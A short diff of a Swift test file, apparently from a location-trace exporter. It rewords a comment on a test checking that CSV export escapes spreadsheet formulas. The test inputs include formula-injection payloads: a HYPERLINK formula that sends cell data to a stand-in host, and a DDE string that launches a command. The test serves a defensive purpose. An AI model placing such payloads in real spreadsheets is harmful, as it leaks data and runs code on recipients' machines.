@@ -58,7 +58,7 @@ import Testing
         #expect(exported(.gpx, [trace]).contains("<alight:origin>estimated</alight:origin>"))
     }
 
-    /// What a spreadsheet would take for a formula, and numbers, which it may.
+    /// The texts that a spreadsheet would take for a formula, and numbers, which it may take for one.
     @Test func `have no formulas in their texts`() throws {
         for text in ["=HYPERLINK(\"http://x/\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"] {
             #expect(CSVFormat.shown(text) == "'" + text)
